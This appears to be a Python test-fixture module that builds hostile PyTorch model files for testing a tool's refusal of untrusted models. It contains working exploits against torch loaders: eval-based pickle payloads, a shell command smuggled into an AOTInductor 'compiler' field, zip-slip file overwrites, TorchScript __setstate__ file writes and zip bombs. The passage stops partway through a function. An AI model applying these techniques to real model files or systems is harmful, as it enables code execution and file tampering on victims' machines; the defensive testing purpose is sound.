"""Hostile model files and projects: the corpus that ``tests/test_trust.py`` feeds to bnfold's trust gate.

Each builder writes one attack into a folder and returns an :class:`Attack`: the file, and the *evidence* that
the attack ran, either a marker file it creates or a victim file whose bytes it overwrites. Every attack was
checked against plain torch 2.13 (``torch.export.load``, ``torch.jit.load`` and running the result): the
evidence appears, so a test that finds no evidence after bnfold refused the file proves something. The
``plain_torch`` field says which plain call fires it. ``python tests/hostile.py FOLDER`` rebuilds the corpus and
repeats that check (it runs the attacks: use a scratch folder).

What each attack exploits, in the order torch meets it:

* ``torch.export.load`` unpickles (``weights_only=False``) every weight or constant flagged ``"use_pickle"``
  in ``data/{weights,constants}/<model>_*_config.json``; ``pickle.loads`` any constant whose ``path_name``
  starts with ``opaque_obj_`` (whatever its flag says); and falls back from ``weights_only=True`` to ``False``
  for every embedded ``torch.save`` blob (``data/sample_inputs/<model>.pt``, legacy ``data/weights/<model>.pt``).
  It does so for *every* ``models/<name>.json`` in the archive, not only ``model``.
* When the new-format reader raises a ``RuntimeError`` (e.g. a member outside the archive's top folder),
  ``torch.export.load`` falls back to the torch 2.7 layout (``serialized_*.pt`` at the zip root), whose blobs
  go through the same ``weights_only`` fallback.
* ``data/aotinductor/<model>/`` is handed to the AOTInductor package loader: it extracts the members to a
  temporary folder without checking ``..`` in their names (zip slip: any file can be overwritten), ``dlopen``s a
  ``.so``, or, with only a ``.cpp``, runs ``system()`` on a compile command whose compiler is read from a JSON
  member of the archive (a shell command, no compiler needed).
* The graph of a ``.pt2`` may call any registered operator, ``aten::from_file(path, shared=True)`` followed by
  an in-place ``fill_`` included: running the program overwrites the file.
* A TorchScript archive is a program: ``forward`` may call ``torch.from_file(..., shared=True)`` or
  ``torch.save``; a ``__setstate__`` runs *inside* ``torch.jit.load``, before any post-load graph scan; the
  serialized source is re-parsed, so ``torch . from_file``, ``(torch).from_file`` or a line continuation spell
  the same call.
* ``zipfile`` and torch's reader (miniz) disagree on duplicate member names: ``zipfile`` reads the last copy,
  torch the first (once the archive has more than two members).
* Zip bombs: a member of 300 MiB of zeros deflates to ~300 KB; torch inflates it in memory. Declared sizes can
  also simply lie.

Nothing here uses the network; every file is small (the largest, a bomb, is ~0.3 MB).
"""

from __future__ import annotations

import contextlib
import copy
import io
import json
import pickle
import shlex
import struct
import sys
import textwrap
import uuid
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch
from torch import nn

#: What a victim file holds before an attack; an attack that ran has overwritten it (with b"A"/b"B"/b"C"...).
VICTIM_BYTES = b"victim: these 40 bytes must stay as is!\n"
INPUT_SHAPE = (2, 1, 8, 8)
SHAPE_ARG = "2,1,8,8"
BOMB_MIB = 300


# -- the evidence ---------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Attack:
    """A hostile file and the evidence that it ran: ``marker`` appears, or ``victim`` loses its bytes."""

    name: str
    path: Path
    evidence: Path
    victim: bool = False  # evidence is a victim file (holds VICTIM_BYTES until attacked), not a marker
    plain_torch: str = "load"  # "load": torch.export.load / torch.jit.load / torch.load fires it; "run": running it
    note: str = ""

    def arm(self) -> None:
        """Reset the evidence (a previous, failing run may have fired the attack)."""
        if self.victim:
            self.evidence.write_bytes(VICTIM_BYTES)
        else:
            self.evidence.unlink(missing_ok=True)

    def fired(self) -> bool:
        if self.victim:
            return self.evidence.read_bytes() != VICTIM_BYTES
        return self.evidence.exists()


class RunsCode:
    """A pickle payload: unpickling it touches ``marker``, then evaluates to ``value`` (a Python expression).

    ``__reduce__`` returns ``(eval, (source,))``: the unpickler calls ``eval`` itself. Nothing of this class is
    stored, so the payload unpickles anywhere. ``value`` lets the file still load normally afterwards (a tensor
    where torch expects one), which is what a real attack would do.
    """

    def __init__(self, marker: Path, value: str = "None") -> None:
        self.marker = str(marker)
        self.value = value

    def __reduce__(self):
        return (eval, (f"__import__('pathlib').Path({self.marker!r}).touch() or ({self.value})",))


def zeros_expr(*shape: int, parameter: bool = False) -> str:
    """A Python expression (for :class:`RunsCode`) building a zero tensor of ``shape``."""
    tensor = f"__import__('torch').zeros{shape!r}"
    return f"__import__('torch').nn.Parameter({tensor})" if parameter else tensor


def torch_save_bytes(obj: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


# -- tiny models (8x8 inputs, one channel) ---------------------------------------------------------------------
class TinyNet(nn.Module):
    """Conv -> BN -> ReLU, plus a tensor constant (``offset``), which torch.export stores as ``tensor_0``."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(1, 4, 3, padding=1)
        self.bn = nn.BatchNorm2d(4)
        self.offset = torch.ones(4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(self.bn(self.conv(x))) + self.offset.view(1, 4, 1, 1)


def tiny_net() -> TinyNet:
    """Deterministic, with BN statistics that are not the identity (so folding does something)."""
    torch.manual_seed(0)
    model = TinyNet()
    with torch.no_grad():
        model.bn.running_mean.uniform_(-0.5, 0.5)
        model.bn.running_var.uniform_(0.5, 2.0)
        model.bn.weight.uniform_(0.5, 1.5)
        model.bn.bias.uniform_(-0.5, 0.5)
    return model.eval()


def conv_bn() -> nn.Sequential:
    """The architecture a project's ``evilpkg.build`` returns (state dict keys ``0.*`` and ``1.*``)."""
    torch.manual_seed(0)
    return nn.Sequential(nn.Conv2d(1, 4, 3, padding=1), nn.BatchNorm2d(4), nn.ReLU()).eval()


def example_input() -> tuple[torch.Tensor]:
    return (torch.randn(*INPUT_SHAPE, generator=torch.Generator().manual_seed(0)),)


class _FillsABuffer(TinyNet):
    """Exported as ``aten.full`` + ``aten.fill_``; :func:`pt2_graph_writes_file` turns ``full`` into ``from_file``."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        scratch = torch.full((len(VICTIM_BYTES),), 1, dtype=torch.uint8).fill_(67)
        return super().forward(x) + scratch[:1].float() * 0


class _WritesInForward(nn.Module):
    """TorchScript: ``forward`` maps the victim file shared and overwrites it (the result is used, so it stays)."""

    def __init__(self, victim: str, n: int) -> None:
        super().__init__()
        self.conv = nn.Conv2d(1, 4, 3, padding=1)
        self.bn = nn.BatchNorm2d(4)
        self.victim = victim
        self.n = n

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        written = torch.from_file(self.victim, shared=True, size=self.n, dtype=torch.uint8).fill_(65)
        return self.bn(self.conv(x)) + written[:1].float() * 0


class _SavesInForward(nn.Module):
    """TorchScript: ``forward`` calls ``torch.save`` (``aten::save``) on a path stored in the archive."""

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.conv = nn.Conv2d(1, 4, 3, padding=1)
        self.bn = nn.BatchNorm2d(4)
        self.marker = marker

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        y = self.bn(self.conv(x))
        torch.save(y, self.marker)
        return y


class _Trigger(nn.Module):
    """TorchScript: its ``__setstate__`` runs inside ``torch.jit.load`` and overwrites the victim file."""

    def __init__(self, victim: str, n: int) -> None:
        super().__init__()
        self.victim = victim
        self.n = n

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> tuple[str, int, bool]:
        return (self.victim, self.n, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, int, bool]) -> None:
        written = torch.from_file(state[0], shared=True, size=state[1], dtype=torch.uint8).fill_(66)
        self.victim = state[0]
        self.n = state[1] + int(written.sum().item()) * 0  # use the result, or TorchScript drops the call
        self.training = state[2]


class _WritesWhenLoaded(nn.Module):
    def __init__(self, victim: str, n: int) -> None:
        super().__init__()
        self.trigger = _Trigger(victim, n)
        self.conv = nn.Conv2d(1, 4, 3, padding=1)
        self.bn = nn.BatchNorm2d(4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.bn(self.conv(self.trigger(x)))


# -- zip surgery ------------------------------------------------------------------------------------------------
def _top(archive: zipfile.ZipFile) -> str:
    """The archive's top folder (torch writes every member under ``<file stem>/``)."""
    return archive.namelist()[0].split("/", 1)[0] + "/"


def read_member(path: Path, name: str) -> bytes:
    """A member's bytes, ``name`` relative to the top folder."""
    with zipfile.ZipFile(path) as archive:
        return archive.read(_top(archive) + name)


def rewrite_zip(src: Path, dst: Path, replace: dict[str, bytes] | None = None,
                add: dict[str, bytes] | None = None, drop: tuple[str, ...] = (),
                deflate: tuple[str, ...] = ()) -> Path:
    """Copy the zip ``src`` to ``dst`` (member order and top folder kept), names relative to the top folder.

    ``replace`` swaps a member's bytes, ``add`` appends members, ``drop`` leaves members out, ``deflate`` stores
    those members compressed. Each member gets a fresh ZipInfo (``writestr`` mutates the one it is given).
    """
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        top = _top(zin)
        for info in zin.infolist():
            rel = info.filename[len(top):]
            if rel in drop:
                continue
            fresh = copy.copy(info)
            if rel in deflate:
                fresh.compress_type = zipfile.ZIP_DEFLATED
            zout.writestr(fresh, replace.get(rel, zin.read(info.filename)))
        for rel, data in add.items():
            zout.writestr(top + rel, data)
    return dst


def _edit_json(path: Path, name: str, edit: Callable[[dict], None]) -> bytes:
    document = json.loads(read_member(path, name))
    edit(document)
    return json.dumps(document).encode()


# -- legitimate files (the twins that must keep working without --trust) ------------------------------------------
def legit_pt2(folder: Path, name: str = "legit.pt2") -> Path:
    path = folder / name
    torch.export.save(torch.export.export(tiny_net(), example_input()), str(path))
    return path


def legit_torchscript(folder: Path, name: str = "legit_scripted.pt") -> Path:
    path = folder / name
    torch.jit.save(torch.jit.script(tiny_net()), str(path))
    return path


def legit_state_dict(folder: Path, name: str = "legit_sd.pt") -> Path:
    path = folder / name
    torch.save(tiny_net().state_dict(), path)
    return path


# -- .pt2 attacks -------------------------------------------------------------------------------------------------
def _pickled_weight(base: Path, marker: Path) -> dict[str, bytes]:
    """The members that turn ``conv.weight`` (``weight_0``) into a flagged pickle touching ``marker``."""

    def flag(config: dict) -> None:
        entry = config["config"]["conv.weight"]
        assert entry["path_name"] == "weight_0", entry
        entry["use_pickle"] = True

    return {"data/weights/weight_0": torch_save_bytes(RunsCode(marker, zeros_expr(4, 1, 3, 3, parameter=True))),
            "data/weights/model_weights_config.json": _edit_json(base, "data/weights/model_weights_config.json",
                                                                 flag)}


def pt2_pickled_weight(folder: Path, base: Path) -> Attack:
    """``data/weights/weight_0`` (the conv weight) replaced by ``torch.save(RunsCode)`` and flagged
    ``"use_pickle": true`` in ``model_weights_config.json``: torch.export.load calls
    ``torch.load(weights_only=False)`` on it. The payload returns a zero Parameter, so the program loads."""
    marker = folder / "pickled_weight.marker"
    path = rewrite_zip(base, folder / "pickled_weight.pt2", replace=_pickled_weight(base, marker))
    return Attack("pt2_pickled_weight", path, marker)


def pt2_pickled_constant(folder: Path, base: Path) -> Attack:
    """The tensor constant ``offset`` (``data/constants/tensor_0``) replaced by a pickle and flagged
    ``"use_pickle": true`` in ``model_constants_config.json``."""
    marker = folder / "pickled_constant.marker"

    def flag(config: dict) -> None:
        config["config"]["offset"]["use_pickle"] = True

    path = rewrite_zip(base, folder / "pickled_constant.pt2", replace={
        "data/constants/tensor_0": torch_save_bytes(RunsCode(marker, "__import__('torch').ones(4)")),
        "data/constants/model_constants_config.json": _edit_json(base, "data/constants/model_constants_config.json",
                                                                 flag)})
    return Attack("pt2_pickled_constant", path, marker)


def pt2_opaque_constant(folder: Path, base: Path) -> Attack:
    """The constant ``offset`` re-pointed at ``opaque_obj_0``, a plain ``pickle.dumps(RunsCode)``, with
    ``"use_pickle": false``: torch dispatches on the ``opaque_obj_`` name prefix alone and ``pickle.loads`` it, so a
    gate that only reads the flag misses it. (The entry keeps a ``uint8`` tensor_meta: with the flag off, torch
    first maps every entry's bytes as a raw tensor, harmlessly, and would stop at a missing tensor_meta.)"""
    marker = folder / "opaque_constant.marker"
    blob = pickle.dumps(RunsCode(marker, "__import__('torch').ones(4)"), protocol=2)

    def repoint(config: dict) -> None:
        entry = config["config"]["offset"]
        entry["path_name"], entry["use_pickle"] = "opaque_obj_0", False
        entry["tensor_meta"].update(dtype=1, sizes=[{"as_int": len(blob)}])  # uint8: any length maps

    path = rewrite_zip(base, folder / "opaque_constant.pt2", drop=("data/constants/tensor_0",),
                       add={"data/constants/opaque_obj_0": blob},
                       replace={"data/constants/model_constants_config.json": _edit_json(
                           base, "data/constants/model_constants_config.json", repoint)})
    return Attack("pt2_opaque_constant", path, marker)


def _sample_inputs_payload(marker: Path) -> bytes:
    return torch_save_bytes(((RunsCode(marker, zeros_expr(*INPUT_SHAPE)),), {}))


def pt2_pickled_sample_inputs(folder: Path, base: Path) -> Attack:
    """``data/sample_inputs/model.pt`` replaced by a pickle: no flag anywhere; torch's
    ``deserialize_torch_artifact`` tries ``weights_only=True``, then silently retries with ``False``."""
    marker = folder / "sample_inputs.marker"
    path = rewrite_zip(base, folder / "sample_inputs.pt2",
                       replace={"data/sample_inputs/model.pt": _sample_inputs_payload(marker)})
    return Attack("pt2_pickled_sample_inputs", path, marker)


def pt2_legacy_weights(folder: Path, base: Path) -> Attack:
    """A legacy ``data/weights/model.pt`` (a whole state dict in one ``torch.save`` blob) added beside the new
    weights: torch prefers it, and it goes through the same ``weights_only`` fallback."""
    marker = folder / "legacy_weights.marker"
    state = dict(tiny_net().state_dict())
    state["conv.weight"] = RunsCode(marker, zeros_expr(4, 1, 3, 3, parameter=True))
    path = rewrite_zip(base, folder / "legacy_weights.pt2", add={"data/weights/model.pt": torch_save_bytes(state)})
    return Attack("pt2_legacy_weights", path, marker)


def pt2_second_model(folder: Path, base: Path) -> Attack:
    """A second program ``aux`` (``models/aux.json`` and its configs, copied from ``model``) whose sample inputs
    are a pickle: torch.export.load deserializes every model in the archive, then returns only ``model``."""
    marker = folder / "second_model.marker"
    path = rewrite_zip(base, folder / "second_model.pt2", add={
        "models/aux.json": read_member(base, "models/model.json"),
        "data/weights/aux_weights_config.json": read_member(base, "data/weights/model_weights_config.json"),
        "data/constants/aux_constants_config.json": read_member(base, "data/constants/model_constants_config.json"),
        "data/sample_inputs/aux.pt": _sample_inputs_payload(marker)})
    return Attack("pt2_second_model", path, marker)


def pt2_legacy_layout(folder: Path, base: Path) -> Attack:
    """The torch 2.7 layout: ``version``, ``serialized_exported_program.json`` and ``serialized_*.pt`` at the zip
    root, plus a stray ``pt2/archive_format`` (so bnfold sniffs a ``.pt2``). torch's new-format reader raises
    (members outside one top folder), ``torch.export.load`` catches the RuntimeError and reads the old layout;
    ``serialized_constants.pt`` is a pickle that goes through the ``weights_only`` fallback."""
    from torch._export.serde.schema import SCHEMA_VERSION

    marker = folder / "legacy_layout.marker"
    path = folder / "legacy_layout.pt2"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("pt2/archive_format", "pt2")
        archive.writestr("version", f"{SCHEMA_VERSION[0]}.{SCHEMA_VERSION[1]}")
        archive.writestr("serialized_exported_program.json", read_member(base, "models/model.json"))
        archive.writestr("serialized_state_dict.pt", torch_save_bytes(dict(tiny_net().state_dict())))
        archive.writestr("serialized_constants.pt", torch_save_bytes({"offset": RunsCode(marker, "None")}))
        archive.writestr("serialized_example_inputs.pt", torch_save_bytes((example_input(), {})))
    return Attack("pt2_legacy_layout", path, marker)


def pt2_duplicate_config(folder: Path, base: Path) -> Attack:
    """``model_weights_config.json`` stored twice: a malicious copy (``use_pickle`` on ``weight_0``, which is a
    pickle) and, later in the archive, the original. ``zipfile.ZipFile.read(name)`` returns the last copy; torch's
    reader binary-searches its sorted directory and lands on either, depending on positions. The builder tries the
    positions of the benign copy until torch's reader (only reading, nothing runs) returns the malicious one while
    ``zipfile`` returns the benign one: a gate that reads members by name checks the wrong copy."""
    marker = folder / "duplicate_config.marker"
    path = folder / "duplicate_config.pt2"
    config = "data/weights/model_weights_config.json"
    evil = _pickled_weight(base, marker)
    with zipfile.ZipFile(base) as src:
        top = _top(src)
        members = [(info, evil.get(info.filename[len(top):], src.read(info.filename))) for info in src.infolist()]
        benign = (src.getinfo(top + config), src.read(top + config))
    start = next(i for i, (info, _) in enumerate(members) if info.filename == top + config) + 1
    for position in range(len(members), start - 1, -1):
        entries = [*members[:position], benign, *members[position:]]
        with zipfile.ZipFile(path, "w") as out, warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": the point
            for info, data in entries:
                out.writestr(copy.copy(info), data)
        torch_reads = torch._C.PyTorchFileReader(str(path)).get_record(config)
        if torch_reads == evil[config] and read_member(path, config) == benign[1]:
            return Attack("pt2_duplicate_config", path, marker,
                          note=f"benign copy at position {position}: torch reads the malicious copy")
    raise AssertionError("torch's zip reader returns the last duplicate wherever it is: the attack is moot")


def _aoti_files(stem: str) -> dict[str, bytes]:
    return {f"data/aotinductor/model/{stem}.wrapper_metadata.json": json.dumps({"AOTI_DEVICE_KEY": "cpu"}).encode()}


def pt2_aoti_compile_command(folder: Path, base: Path) -> Attack:
    """``data/aotinductor/model/pwn.wrapper.cpp`` with no ``.so``: the AOTInductor loader (run by every
    ``torch.export.load``) "compiles" it with ``system()``, the compiler being the ``"compiler"`` string of
    ``pwn.wrapper_compile_flags.json`` in the archive: a shell command. No pickle, no compiler needed."""
    marker = folder / "aoti_compile.marker"
    flags = json.dumps({"compiler": f"touch {shlex.quote(str(marker))} #", "compile_only": True, "cflags": [],
                        "definitions": [], "include_dirs": [], "ldflags": [], "libraries_dirs": [], "libraries": [],
                        "passthrough_args": []}).encode()
    path = rewrite_zip(base, folder / "aoti_compile.pt2", add={
        **_aoti_files("pwn"),
        "data/aotinductor/model/pwn.wrapper.cpp": b"",
        "data/aotinductor/model/pwn.wrapper_compile_flags.json": flags,
        "data/aotinductor/model/pwn.wrapper_linker_flags.json": flags})
    return Attack("pt2_aoti_compile_command", path, marker)


def pt2_aoti_zip_slip(folder: Path, base: Path) -> Attack:
    """A member ``data/aotinductor/model/../../(...)/<victim>``: the AOTInductor loader extracts every member of
    the model's folder to ``<tmp>/<name>`` without resolving ``..``, so it overwrites any file the user can write
    (here the victim; ``~/.bashrc`` in real life)."""
    victim = folder / "aoti_zip_slip.victim"
    climb = "../" * 40 + str(victim).lstrip("/")
    path = rewrite_zip(base, folder / "aoti_zip_slip.pt2", add={
        **_aoti_files("slip"), f"data/aotinductor/model/{climb}": b"overwritten by the archive\n"})
    return Attack("pt2_aoti_zip_slip", path, victim, victim=True)


def pt2_graph_writes_file(folder: Path) -> Attack:
    """A program whose graph calls ``aten.from_file(victim, shared=True)`` then ``aten.fill_``: exported from
    :class:`_FillsABuffer` (``aten.full`` + ``aten.fill_``), then the ``full`` node of ``models/model.json`` is
    rewritten into ``from_file``. Loading is harmless; running the program overwrites the victim."""
    victim = folder / "graph_writes.victim"
    exported = folder / "fills_a_buffer.pt2"
    torch.export.save(torch.export.export(_FillsABuffer().eval(), example_input()), str(exported))

    def to_from_file(program: dict) -> None:
        nodes = [n for n in program["graph_module"]["graph"]["nodes"] if n["target"] == "torch.ops.aten.full.default"]
        assert len(nodes) == 1, nodes
        nodes[0]["target"] = "torch.ops.aten.from_file.default"
        nodes[0]["inputs"] = [
            {"name": "filename", "arg": {"as_string": str(victim)}, "kind": 1},
            {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
            {"name": "size", "arg": {"as_int": len(VICTIM_BYTES)}, "kind": 1},
            {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2}]  # uint8

    path = rewrite_zip(exported, folder / "graph_writes.pt2",
                       replace={"models/model.json": _edit_json(exported, "models/model.json", to_from_file)})
    exported.unlink()
    return Attack("pt2_graph_writes_file", path, victim, victim=True, plain_torch="run")


# -- TorchScript attacks --------------------------------------------------------------------------------------------
def ts_forward_writes_file(folder: Path) -> Attack:
    """``forward`` calls ``torch.from_file(victim, shared=True).fill_(65)``: running the model overwrites it."""
    victim = folder / "ts_forward.victim"
    path = folder / "ts_forward.pt"
    torch.jit.save(torch.jit.script(_WritesInForward(str(victim), len(VICTIM_BYTES)).eval()), str(path))
    return Attack("ts_forward_writes_file", path, victim, victim=True, plain_torch="run")


def ts_forward_saves_file(folder: Path) -> Attack:
    """``forward`` calls ``torch.save(y, marker)`` (``aten::save``): running the model writes a file."""
    marker = folder / "ts_save.marker"
    path = folder / "ts_save.pt"
    torch.jit.save(torch.jit.script(_SavesInForward(str(marker)).eval()), str(path))
    return Attack("ts_forward_saves_file", path, marker, plain_torch="run")


def ts_setstate_writes_file(folder: Path) -> Attack:
    """A submodule's TorchScript ``__setstate__`` calls ``torch.from_file(victim, shared=True).fill_(66)``:
    ``torch.jit.load`` alone overwrites the victim, before any graph of the loaded module could be inspected."""
    victim = folder / "ts_setstate.victim"
    path = folder / "ts_setstate.pt"
    torch.jit.save(torch.jit.script(_WritesWhenLoaded(str(victim), len(VICTIM_BYTES)).eval()), str(path))
    return Attack("ts_setstate_writes_file", path, victim, victim=True)


#: Other spellings of ``torch.from_file(`` that TorchScript's parser accepts in an archive's code.
SPELLINGS = {
    "ops_aten": b"ops.aten.from_file(",
    "spaces": b"torch . from_file(",
    "parentheses": b"(torch).from_file(",
    "line_continuation": b"torch.\\\n      from_file(",
}


def ts_setstate_spelled(folder: Path, spelling: str) -> Attack:
    """:func:`ts_setstate_writes_file` with the call re-spelled in its ``code/__torch__/...py`` (and that member
    deflated, so the bytes of the zip do not hold the text either): a text scan must tokenize, not grep."""
    victim = folder / f"ts_spelled_{spelling}.victim"
    plain = folder / f"ts_spelled_{spelling}_source.pt"
    torch.jit.save(torch.jit.script(_WritesWhenLoaded(str(victim), len(VICTIM_BYTES)).eval()), str(plain))
    with zipfile.ZipFile(plain) as archive:  # code/__torch__/<this module's import path>.py
        top = _top(archive)
        sources = {n[len(top):]: archive.read(n) for n in archive.namelist() if n.endswith(".py")}
    [(member, code)] = [(n, c) for n, c in sources.items() if b"torch.from_file(" in c]
    assert code.count(b"torch.from_file(") == 1, code
    path = rewrite_zip(plain, folder / f"ts_spelled_{spelling}.pt",
                       replace={member: code.replace(b"torch.from_file(", SPELLINGS[spelling])}, deflate=(member,))
    plain.unlink()
    return Attack(f"ts_setstate_spelled_{spelling}", path, victim, victim=True)


# -- whole pickles ---------------------------------------------------------------------------------------------------
def whole_pickle(folder: Path) -> Attack:
    """``torch.save(module)`` of an ``nn.Sequential`` (Conv, BN, ReLU) with an attribute ``payload`` that is a
    :class:`RunsCode`: ``torch.load(weights_only=False)`` touches the marker and returns a working module."""
    marker = folder / "whole_pickle.marker"
    model = conv_bn()
    model.payload = RunsCode(marker, "'ran'")
    path = folder / "whole_pickle.pt"
    torch.save(model, path)
    return Attack("whole_pickle", path, marker)


# -- zip bombs ---------------------------------------------------------------------------------------------------------
def deflated_zeros(mib: int) -> tuple[bytes, int]:
    """Raw DEFLATE data for ``mib`` MiB of zero bytes, and their CRC-32, in well under a second.

    One MiB is compressed once and ended with a full flush (byte-aligned, not final, dictionary reset), so copies
    of it concatenate into one valid stream; an empty final block ends it. Compressing 300 MiB directly takes 5 s.
    """
    chunk = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(chunk, crc)
    return piece * mib + final, crc


@dataclass
class _Member:
    name: str
    data: bytes  # as stored in the archive (compressed when method is 8)
    method: int = 0  # 0 stored, 8 deflated
    crc: int | None = None  # of the uncompressed bytes; computed for stored members
    size: int | None = None  # declared uncompressed size (None: len(data), for stored members)
    stored_size: int | None = None  # declared compressed size (None: len(data))


def write_zip(path: Path, members: list[_Member]) -> Path:
    """A plain zip (no zip64, no data descriptors) that declares exactly the sizes and CRCs it is told to."""
    body, central = bytearray(), bytearray()
    for m in members:
        name = m.name.encode()
        crc = zlib.crc32(m.data) if m.crc is None else m.crc
        size = len(m.data) if m.size is None else m.size
        stored = len(m.data) if m.stored_size is None else m.stored_size
        offset = len(body)
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, m.method, 0, 0x21, crc, stored, size, len(name), 0)
        body += name + m.data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, m.method, 0, 0x21, crc, stored, size,
                               len(name), 0, 0, 0, 0, 0, offset) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(body), 0)
    path.write_bytes(bytes(body + central + end))
    return path


def _members(src: Path) -> list[_Member]:
    with zipfile.ZipFile(src) as archive:
        return [_Member(info.filename, archive.read(info.filename)) for info in archive.infolist()]


def zip_bomb(src: Path, dst: Path, member: str, mib: int = BOMB_MIB) -> Path:
    """``src`` with ``member`` (relative to the top folder) replaced by ``mib`` MiB of zeros, deflated
    (~1000:1). Every other member is kept, stored."""
    data, crc = deflated_zeros(mib)
    members = _members(src)
    top = members[0].name.split("/", 1)[0] + "/"
    hits = [m for m in members if m.name == top + member]
    assert len(hits) == 1, (member, [m.name for m in members])
    hits[0].data, hits[0].method, hits[0].crc, hits[0].size = data, 8, crc, mib << 20
    return write_zip(dst, members)


def bombs(folder: Path, base_pt2: Path, base_ts: Path) -> dict[str, Path]:
    """The bombs, each a ~0.3 MB file that makes torch allocate 300 MiB (or claims 1 TiB)."""
    state_dict = legit_state_dict(folder, "bomb_base_sd.pt")
    inner = zip_bomb(state_dict, folder / "inner_bomb.pt", "data/0")
    nested = rewrite_zip(base_pt2, folder / "bomb_nested.pt2",
                         replace={"data/sample_inputs/model.pt": inner.read_bytes()})
    declared = _members(base_pt2)
    top = declared[0].name.split("/", 1)[0] + "/"
    # 256 stored members declaring (4 GiB - 2) each, ratio 1:1: only a limit on the total catches them.
    declared += [_Member(f"{top}extra/blob_{i}", b"", crc=0, size=0xFFFFFFFE, stored_size=0xFFFFFFFE)
                 for i in range(256)]
    return {
        "pt2_weight": zip_bomb(base_pt2, folder / "bomb_weight.pt2", "data/weights/weight_0"),
        "torch_save": zip_bomb(state_dict, folder / "bomb_sd.pt", "data/0"),
        "torchscript": zip_bomb(base_ts, folder / "bomb_scripted.pt", "data/0"),
        # the outer member is stored (1:1): only the inner torch.save zip is a bomb, met when the blob is loaded
        "pt2_nested": nested,
        "declared_total": write_zip(folder / "bomb_declared.pt2", declared),
    }


# -- a project whose config names code -----------------------------------------------------------------------------------
@dataclass(frozen=True)
class Project:
    """A checkout with a pyproject.toml ``[tool.bnfold]`` section; its modules touch markers when imported."""

    root: Path
    pyproject: Path
    arch_module: str
    data_module: str
    arch_marker: Path
    data_marker: Path


def project(folder: Path, *, model: str = "safetensors", arch: bool = True, data: bool = False,
            extra_toml: str = "") -> Project:
    """``folder/pyproject.toml`` listing one model. ``model``: ``"safetensors"`` (weights for ``arch``) or
    ``"pt2"`` (a legitimate program, which needs no code). ``arch``/``data`` name ``<module>:build`` and
    ``<module>:batches`` in modules of ``folder`` that touch their marker when imported; module names are
    unique, so an earlier import in the same process cannot hide a later one."""
    tag = uuid.uuid4().hex[:10]
    arch_module, data_module = f"evilpkg_{tag}", f"evildata_{tag}"
    arch_marker, data_marker = folder / f"{arch_module}.marker", folder / f"{data_module}.marker"
    (folder / f"{arch_module}.py").write_text(textwrap.dedent(f"""\
        import pathlib
        pathlib.Path({str(arch_marker)!r}).touch()  # runs at import: the config ran code
        from torch import nn

        def build():
            return nn.Sequential(nn.Conv2d(1, 4, 3, padding=1), nn.BatchNorm2d(4), nn.ReLU())
        """))
    (folder / f"{data_module}.py").write_text(textwrap.dedent(f"""\
        import pathlib
        pathlib.Path({str(data_marker)!r}).touch()
        import torch

        def batches():
            return [torch.randn{(4, *INPUT_SHAPE[1:])!r}]
        """))
    if model == "safetensors":
        from safetensors.torch import save_file

        save_file(conv_bn().state_dict(), str(folder / "model.safetensors"))
        model_path = "model.safetensors"
    else:
        model_path = legit_pt2(folder, "model.pt2").name
    lines = ["[[tool.bnfold.models]]", f'path = "{model_path}"', f'input-shapes = ["{SHAPE_ARG}"]',
             'checks = ["audit"]']
    if arch:
        lines.append(f'arch = "{arch_module}:build"')
    if data:
        lines.append(f'data = "{data_module}:batches"')
    pyproject = folder / "pyproject.toml"
    pyproject.write_text("\n".join(lines) + "\n" + extra_toml)
    return Project(folder, pyproject, arch_module, data_module, arch_marker, data_marker)


# -- the corpus ------------------------------------------------------------------------------------------------------------
@dataclass
class Corpus:
    folder: Path
    legit_pt2: Path
    legit_torchscript: Path
    attacks: dict[str, Attack]
    bombs: dict[str, Path]


#: Attacks on ``.pt2`` files, TorchScript archives and pickles, by name (every one is refused without --trust).
PT2_ATTACKS = ["pt2_pickled_weight", "pt2_pickled_constant", "pt2_opaque_constant", "pt2_pickled_sample_inputs",
               "pt2_legacy_weights", "pt2_second_model", "pt2_legacy_layout", "pt2_duplicate_config",
               "pt2_aoti_compile_command", "pt2_aoti_zip_slip", "pt2_graph_writes_file"]
TS_ATTACKS = ["ts_forward_writes_file", "ts_forward_saves_file", "ts_setstate_writes_file",
              *(f"ts_setstate_spelled_{s}" for s in SPELLINGS)]
ALL_ATTACKS = [*PT2_ATTACKS, *TS_ATTACKS, "whole_pickle"]


def build_corpus(folder: Path) -> Corpus:
    """Every attack, bomb and legitimate twin, in ``folder`` (about 3 s on a laptop CPU)."""
    folder.mkdir(parents=True, exist_ok=True)
    base_pt2, base_ts = legit_pt2(folder), legit_torchscript(folder)
    built = [
        *(f(folder, base_pt2) for f in (pt2_pickled_weight, pt2_pickled_constant, pt2_opaque_constant,
                                         pt2_pickled_sample_inputs, pt2_legacy_weights, pt2_second_model,
                                         pt2_legacy_layout, pt2_duplicate_config, pt2_aoti_compile_command,
                                         pt2_aoti_zip_slip)),
